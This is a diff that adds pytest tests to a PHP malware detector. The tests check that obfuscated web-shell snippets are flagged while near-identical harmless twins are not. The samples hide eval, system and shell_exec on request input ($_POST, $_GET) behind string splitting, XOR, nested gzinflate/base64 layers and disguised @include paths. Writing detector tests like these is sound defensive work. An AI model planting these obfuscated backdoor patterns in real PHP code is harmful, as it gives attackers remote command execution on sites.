@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import base64
+import zlib
+
 import pytest
 
 from pratique.content.mark import Mark
@@ -214,3 +217,82 @@ def test_more_connections_than_are_followed_are_told():
     assert "PHP with more connections than are followed" in {
         row.reason for row in rows(tangle) if isinstance(row, Gap)
     }
+
+
+def deflated(text: str) -> str:
+    packed = zlib.compress(text.encode(), 9)[2:-4]
+    return f"gzinflate(base64_decode('{base64.b64encode(packed).decode()}'))"
+
+
+def xored(name: str) -> str:
+    mixed = bytes(c ^ ord("k") for c in name.encode())
+    return f"(hex2bin('{mixed.hex()}') ^ '{'k' * len(name)}')"
+
+
+def in_base64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+SPLIT = """
+$k = 'if (time() < 0) { ev!qal($_PO!qST["c"]); }';
+$f = str_replace('w', '', '%s');
+$g = $f('', str_replace('!q', '', $k));
+"""
+DIFFERENCE = "$f = join(array_diff(str_split('%s'), ['x'])); array_map($f, array($_POST['c']));"
+
+
+# Each with its near twin, which hides in the same way and does nothing to anybody.
+@pytest.mark.parametrize(
+    ("marks", "source", "twin"),
+    [
+        (
+            {"php-runs-request", "php-runs-decoded"},
+            SPLIT % "crweawtew_fuwnction",
+            SPLIT % "swtr_wrewplawce",
+        ),
+        (
+            {"php-runs-request", "php-runs-decoded"},
+            DIFFERENCE % "sxyxsxtxexm",
+            DIFFERENCE % "xtxrxixmx",
+        ),
+        (
+            {"php-runs-request", "php-runs-decoded"},
+            f"eval({deflated('eval(' + deflated('eval($_POST[1]);') + ');')});",
+            f"echo {deflated('echo ' + deflated('eval($_POST[1]);') + ';')};",
+        ),
+        (
+            {"php-hidden-include"},
+            f"@include base64_decode('{in_base64('/srv/a/.5f1c.ico')}');",
+            "@include '/srv/a/' . 'lib' . '/header.php';",
+        ),
+        (
+            {"php-hidden-include"},
+            r'@include "\057sr\166/a/.\146av\x2eico";',
+            r'echo "\057sr\166/a/.\146av\x2eico";',
+        ),
+        (
+            {"php-runs-request", "php-runs-decoded"},
+            f"$f = {xored('shell_exec')}; echo $f($_POST['c']);",
+            f"$f = {xored('strtolower')}; echo $f($_POST['c']);",
+        ),
+    ],
+    ids=["str_replace", "array_diff", "two layers", "include", "escapes", "exclusive or"],
+)
+def test_what_is_hidden_is_found_and_its_innocent_twin_is_not(marks, source, twin):
+    assert sure(source) >= marks
+    assert sure(twin) == set()
+
+
+def test_a_mark_in_a_layer_says_how_deep_it_lies_and_points_at_the_file():
+    inner = "eval(" + deflated("\n\nif (time() < 0) { system($_GET['c']); }") + ");"
+    found = rows("\n\neval(" + deflated(inner) + ");")
+    (mark,) = [row for row in found if isinstance(row, Mark) and row.mark == "php-runs-request"]
+    assert mark.line == 3
+    assert mark.quote == "system($_GET['c'])"
+    assert "hidden under 2 layers" in mark.why
+
+
+def test_what_takes_too_many_steps_is_told():
+    endless = "eval(" + deflated("$x = 'a'; while (true) { $x = md5($x); }") + ");"
+    reasons = {row.reason for row in rows(endless) if isinstance(row, Gap)}
+    assert reasons == {"PHP that takes too many steps"}
